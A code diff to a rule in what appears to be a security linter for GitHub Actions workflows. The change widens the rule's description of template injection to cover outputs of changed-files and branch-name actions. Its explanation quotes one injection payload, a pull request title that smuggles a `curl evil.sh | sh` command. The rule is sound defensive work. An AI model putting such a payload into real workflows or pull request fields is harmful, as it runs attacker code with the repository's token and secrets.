@@ -14,7 +14,7 @@ export const templateInjection = defineFileRule<WorkflowModel>({
   docs: {
     summary:
       // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
-      "A `run:` script (of a workflow or a composite action) or an `actions/github-script` `script:` contains `${{ … }}` that expands text an outsider writes: issue, pull request, comment and review titles and bodies, branch names (`github.head_ref`), commit messages, label and wiki page names; directly, through `${{ env.X }}` of a variable set from such a field, or through `${{ steps.<id>.outputs.<name> }}` of an earlier step that wrote such a value to `$GITHUB_OUTPUT`.",
+      "A `run:` script (of a workflow or a composite action) or an `actions/github-script` `script:` contains `${{ … }}` that expands text an outsider writes: issue, pull request, comment and review titles and bodies, branch names (`github.head_ref`), commit messages, label and wiki page names; directly, through `${{ env.X }}` of a variable set from such a field, or through `${{ steps.<id>.outputs.<name> }}` of an earlier step that wrote such a value to `$GITHUB_OUTPUT` or of an action whose outputs carry a pull request's file or branch names (tj-actions/changed-files, tj-actions/branch-names, dorny/paths-filter).",
     whyItMatters:
       "GitHub pastes the expression into the script before the shell runs it. A pull request titled `\"; curl evil.sh | sh; #` runs the attacker's commands with the job's token and secrets.",
     remediation:
